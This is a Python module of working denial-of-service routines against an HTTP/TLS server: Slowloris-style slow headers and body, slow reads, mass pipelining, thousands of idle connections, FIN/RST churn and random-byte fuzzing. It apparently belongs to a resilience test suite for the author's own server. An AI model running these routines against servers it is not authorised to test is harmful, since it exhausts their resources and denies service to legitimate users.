"""The attacks. Each goes on until a moment of the monotonic clock, and leaves its sockets open."""

import contextlib
import random
import selectors
import socket
import ssl
import time
from collections.abc import Callable

from target import Target, get, half_close, reset, segment, segment_header, source

Attack = Callable[[Target, float], None]
# One step on one connection, given how often it was called before; False when the connection is done.
Step = Callable[[socket.socket, int], bool]
NOT_YET = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def slow_headers(target: Target, until: float) -> None:
    """A byte of the header every second, on 500 connections."""
    header = get("/livez")[:-2] + b"X-Slow: " + b"s" * 4096
    _slowly(target, until, 500, lambda connection, turn: _send(connection, header[turn : turn + 1]))


def slow_body(target: Target, until: float) -> None:
    """A header at once, then a byte of the body every second, on 500 connections."""

    def step(connection: socket.socket, turn: int) -> bool:
        return _send(connection, segment_header(1_000_000) if turn == 0 else b"-")

    _slowly(target, until, 500, step)


def slow_read(target: Target, until: float) -> None:
    """A hundred requests at once and more every second, the answers read byte by byte."""

    def step(connection: socket.socket, turn: int) -> bool:
        more = get("/openapi.yaml", close=False) * (100 if turn == 0 else 1)
        with contextlib.suppress(*NOT_YET):
            connection.send(more)
        return _receive(connection, 1) != b""

    _slowly(target, until, 200, step, receive_buffer=2048)


def pipelined(target: Target, until: float) -> None:
    """Four thousand requests at once on each of eight connections, the answers read."""
    paths = ["/metrics", "/v2", "/v1/model", "/nowhere"]
    requests = [get(path, close=False) * 3999 + get(path) for path in paths]
    rest: dict[socket.socket, bytes] = {}
    opened = 0
    while time.monotonic() < until:
        while len(rest) < 8:
            opened += 1
            connection = target.connect(source(opened))
            connection.setblocking(False)
            rest[connection] = requests[opened % len(requests)]
        for connection, data in list(rest.items()):
            with contextlib.suppress(*NOT_YET):
                if data:
                    rest[connection] = data[connection.send(data) :]
            if _receive(connection, 1 << 20) == b"":
                del rest[connection]
                connection.close()
        time.sleep(0.0005)


def slow_cuts(target: Target, until: float) -> None:
    """A valid request in ten pieces, one a second, cut somewhere, then closed or half closed."""
    request = segment()

    def step(connection: socket.socket, turn: int) -> bool:
        cut = 1 + connection.fileno() * 7 % len(request)
        if turn < 10:
            return _send(connection, request[cut * turn // 10 : cut * (turn + 1) // 10])
        if cut % 2 == 0:
            return False
        if turn == 10:
            half_close(connection)
            connection.setblocking(False)
        return _receive(connection, 4096) != b""

    _slowly(target, until, 500, step)


def idle(target: Target, until: float) -> None:
    """5,000 connections on which nothing is sent; over TLS, every second one has had its handshake."""
    ended = selectors.DefaultSelector()
    index = 0
    while time.monotonic() < until:
        if len(ended.get_map()) < 5000:
            index += 1
            with contextlib.suppress(OSError):
                connect = target.connect if index % 2 else target.connect_tcp
                ended.register(connect(source(index)), selectors.EVENT_READ)
            time.sleep(0.001)
        pause = 0.0 if len(ended.get_map()) < 5000 else 0.1
        for key, _ in ended.select(pause):
            assert isinstance(key.fileobj, socket.socket)
            key.fileobj.setblocking(False)
            if _receive(key.fileobj, 4096) == b"":
                ended.unregister(key.fileobj)
                key.fileobj.close()


def churn(target: Target, until: float) -> None:
    """Connections that end at once, with and without a request, by FIN and by RST."""

    def meet(index: int) -> None:
        connection = target.connect(source(index)) if index % 4 < 2 else target.connect_tcp(source(index))
        with connection:
            if index % 3:
                connection.sendall(get("/livez"))
            if index % 3 == 2:
                connection.recv(4096)
            if index // 4 % 2:
                reset(connection)

    _in_turn(until, meet, pause=0.0005)


def random_bytes(target: Target, until: float) -> None:
    """Noise, alone or in a valid request; over TLS, also in place of the handshake."""
    chance = random.Random(1)
    request = segment()

    def meet(index: int) -> None:
        noise = chance.randbytes(chance.randint(1, 4096))
        if index % 2:
            place = chance.randrange(len(request))
            noise = request[:place] + noise[: chance.randint(1, 8)] + request[place:]
        connect = target.connect if index % 4 < 2 else target.connect_tcp
        _send_and_end(connect(source(index)), noise, wait=index % 8 < 6)

    _in_turn(until, meet, pause=0.002)


def cut_everywhere(target: Target, until: float) -> None:
    """A valid request cut at each byte, then closed, or half closed and the answer waited for."""
    request = segment()

    def meet(index: int) -> None:
        cut = index // 2 % len(request)
        _send_and_end(target.connect(source(index)), request[:cut], wait=index % 2 == 0)

    _in_turn(until, meet, pause=0.002)


ATTACKS: dict[str, Attack] = {
    "slow-headers": slow_headers,
    "slow-body": slow_body,
    "slow-read": slow_read,
    "pipelined": pipelined,
    "slow-cuts": slow_cuts,
    "idle": idle,
    "churn": churn,
    "random-bytes": random_bytes,
    "cut-everywhere": cut_everywhere,
}


def _in_turn(until: float, meet: Callable[[int], None], pause: float) -> None:
    index = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            meet(index)
        index += 1
        time.sleep(pause)


def _slowly(target: Target, until: float, count: int, step: Step, receive_buffer: int | None = None) -> None:
    """Steps on each of so many connections every second; one that is done is replaced."""
    turns: dict[socket.socket, int] = {}
    opened = 0
    while time.monotonic() < until:
        for _ in range(min(50, count - len(turns))):
            opened += 1
            with contextlib.suppress(OSError):
                connection = target.connect(source(opened), receive_buffer)
                connection.setblocking(False)
                turns[connection] = 0
        begin = time.monotonic()
        for connection, turn in list(turns.items()):
            turns[connection] = turn + 1
            if not _goes_on(step, connection, turn):
                del turns[connection]
                connection.close()
            time.sleep(0.0005)
        time.sleep(max(0, begin + 1 - time.monotonic()))


def _goes_on(step: Step, connection: socket.socket, turn: int) -> bool:
    try:
        return step(connection, turn)
    except NOT_YET:
        return True
    except OSError:
        return False


def _send(connection: socket.socket, data: bytes) -> bool:
    """Sends, and looks whether the server has answered or closed."""
    if data:
        connection.send(data)
    return _receive(connection, 4096) is None


def _receive(connection: socket.socket, count: int) -> bytes | None:
    """What has arrived; empty at the end, None when there is nothing yet."""
    try:
        return connection.recv(count)
    except NOT_YET:
        return None
    except OSError:
        return b""


def _send_and_end(connection: socket.socket, data: bytes, wait: bool) -> None:
    with connection:
        connection.sendall(data)
        if wait:
            half_close(connection)
            connection.settimeout(0.5)
            while connection.recv(4096):
                pass
